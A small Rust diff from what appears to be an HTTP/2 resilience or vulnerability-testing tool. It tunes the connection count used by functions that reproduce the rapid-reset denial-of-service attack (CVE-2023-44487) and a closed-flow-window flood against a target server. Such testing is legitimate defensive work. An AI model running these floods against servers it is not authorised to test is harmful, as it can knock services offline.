@@ -24,6 +24,8 @@ const WHOLE: u8 = 5;
 const RESETS: u32 = 10_000;
 /// Streams at once, as many as are allowed.
 const STREAMS: u32 = 128;
+/// Connections with that many, fewer in all than the 10,000 requests that the config lets be in flight.
+const STREAMING: usize = 70;
 
 /// Streams that are reset as soon as they are opened (CVE-2023-44487).
 pub(super) fn rapid_reset(target: &Target) -> Outcome<String> {
@@ -57,7 +59,7 @@ pub(super) fn closed_windows(target: &Target) -> Outcome<String> {
     let bytes = [PREFACE, &no_window, &large, &frames].concat();
     let resets = Rc::new(Cell::new(0));
     let counted = Rc::clone(&resets);
-    let outcomes = run(target.address, 100, move |mut stream| {
+    let outcomes = run(target.address, STREAMING, move |mut stream| {
         let (bytes, counted) = (bytes.clone(), Rc::clone(&counted));
         async move {
             send(&mut stream, &bytes).await;
